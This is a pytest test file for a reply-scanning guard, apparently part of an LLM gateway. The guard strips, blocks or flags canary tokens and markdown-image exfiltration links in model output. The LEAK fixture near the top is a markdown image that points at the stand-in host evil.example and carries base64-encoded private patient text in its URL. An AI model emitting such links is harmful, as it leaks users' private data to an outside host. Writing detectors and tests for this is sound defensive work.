import base64

import pytest

from curtilage.consent.models import HostileRules
from curtilage.detect.hostile.canary import CanaryKey
from curtilage.detect.hostile.models import Action
from curtilage.gateway.errors import HostileReply
from curtilage.gateway.replywatch import ReplyWatch
from curtilage.shield.held import Held
from curtilage.shield.restore import Form, Sink, StreamRestorer, restore_text

SAID = base64.b64encode(b"the patient said that she moves to Lyon").decode()
LEAK = f"![x](https://evil.example/p.png?x={SAID})"
KEY = CanaryKey(b"k" * 32)
CANARY = KEY.mint_named("notes")


def shown(watch: ReplyWatch, text: str, sink: Sink = Sink.TEXT) -> str:
    return restore_text(text, Held(watch=watch), sink=sink).text


@pytest.mark.parametrize("sink", [Sink.TEXT, Sink.NONE])
def test_both_are_looked_for_in_all_that_is_read(sink: Sink) -> None:
    watch = ReplyWatch(HostileRules(canary=Action.STRIP), KEY, observe=False)
    assert shown(watch, f"a {LEAK} b {CANARY} c", sink) == "a ![x](https://[…]) b […] c"
    assert watch.found == {"EXFILTRATION": 1, "CANARY": 1} and watch.has_cut
    assert watch.facts() == {
        "hostile_reply": {"EXFILTRATION": 1, "CANARY": 1}, "hostile_reply_action": "strip",
    }  # fmt: skip


def test_arguments_of_tools_are_not_read_as_text() -> None:
    watch = ReplyWatch(HostileRules(), KEY, observe=False)
    assert shown(watch, LEAK, Sink.INVERSE) == LEAK
    restorer = StreamRestorer(Held(watch=watch), sink=Sink.ARGUMENTS, form=Form.JSON)
    assert restorer.feed(LEAK) == LEAK and not watch.facts()


def test_what_is_blocked_raises_and_is_counted() -> None:
    watch = ReplyWatch(HostileRules(exfiltration=Action.ASK), None, observe=False)
    with pytest.raises(HostileReply, match="EXFILTRATION") as refused:
        shown(watch, LEAK)
    assert SAID not in str(refused.value)
    assert watch.facts()["hostile_reply_action"] == "block" and not watch.has_cut


def test_a_policy_that_observes_only_counts() -> None:
    watch = ReplyWatch(HostileRules(), KEY, observe=True)
    assert shown(watch, f"{LEAK} {CANARY}") == f"{LEAK} {CANARY}"
    assert watch.facts()["hostile_reply_action"] == "flag"


def test_nothing_is_read_where_nothing_is_looked_for() -> None:
    watch = ReplyWatch(HostileRules(replies=Action.ALLOW), KEY, observe=False)
    assert not watch.may_meet(f"{LEAK} {CANARY}")
    assert shown(watch, f"{LEAK} {CANARY}") == f"{LEAK} {CANARY}"
    leaks = ReplyWatch(HostileRules(), None, observe=False)
    assert leaks.may_meet(LEAK) and not leaks.may_meet(CANARY)
    canaries = ReplyWatch(HostileRules(exfiltration=Action.ALLOW), KEY, observe=False)
    assert canaries.may_meet(CANARY) and not canaries.may_meet("//")
    assert not leaks.facts()
